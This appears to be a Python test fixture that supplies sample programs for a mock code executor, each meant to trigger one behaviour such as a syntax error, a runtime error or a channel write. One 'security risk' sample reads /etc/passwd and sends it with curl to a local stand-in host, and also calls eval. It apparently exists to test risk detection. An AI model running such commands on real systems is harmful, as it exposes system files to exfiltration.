"""The programs of the mock, one or two a behaviour."""

from __future__ import annotations

CHANNEL = "MOCK:SETPOINT"

_SUCCESS = """\
\"\"\"Mean and spread of ten numbers.\"\"\"

values = [1.2, 0.9, 1.1, 1.0, 0.8, 1.3, 1.0, 0.9, 1.1, 0.7]
mean = sum(values) / len(values)
spread = (sum((value - mean) ** 2 for value in values) / (len(values) - 1)) ** 0.5
results = {"mean": mean, "spread": spread, "count": len(values)}
"""

_SYNTAX_ERROR = """\
def mean(values)
    return sum(values) / len(values)

results = {"mean": mean([1, 2, 3])}
"""

_RUNTIME_ERROR = """\
readings = []
mean = sum(readings) / len(readings)
results = {"mean": mean}
"""

_MISSING_RESULTS = """\
mean = sum([1, 2, 3]) / 3
print("mean:", mean)
"""

_SECURITY_RISK = """\
import os
import subprocess

listing = subprocess.run(["cat", "/etc/passwd"], capture_output=True, text=True)
os.system("curl http://127.0.0.1:9/ -d @/etc/passwd")
results = {"listing": listing.stdout, "value": eval("1 + 1")}
"""

_CHANNEL_WRITE = """\
from osprey_executor.runtime import read_channel, write_channel

channel = @CHANNEL@
before = read_channel(channel)
write_channel(channel, 1.5)
results = {"channel": channel, "before": before, "after": read_channel(channel)}
"""

_CHANNEL_READ = """\
from osprey_executor.runtime import read_channel

channel = @CHANNEL@
results = {"channel": channel, "value": read_channel(channel)}
"""


def scripts(channel: str) -> dict[str, tuple[str, ...]]:
    """Return the programs of each behaviour; those that touch a channel touch this one."""
    return {
        "success": (_SUCCESS,),
        "syntax_error": (_SYNTAX_ERROR,),
        "runtime_error": (_RUNTIME_ERROR,),
        "missing_results": (_MISSING_RESULTS,),
        "channel_write": (_CHANNEL_WRITE.replace("@CHANNEL@", repr(channel)),),
        "channel_read": (_CHANNEL_READ.replace("@CHANNEL@", repr(channel)),),
        "security_risk": (_SECURITY_RISK,),
        "error_aware": (_RUNTIME_ERROR, _SUCCESS),
    }


BEHAVIORS = tuple(scripts(CHANNEL))
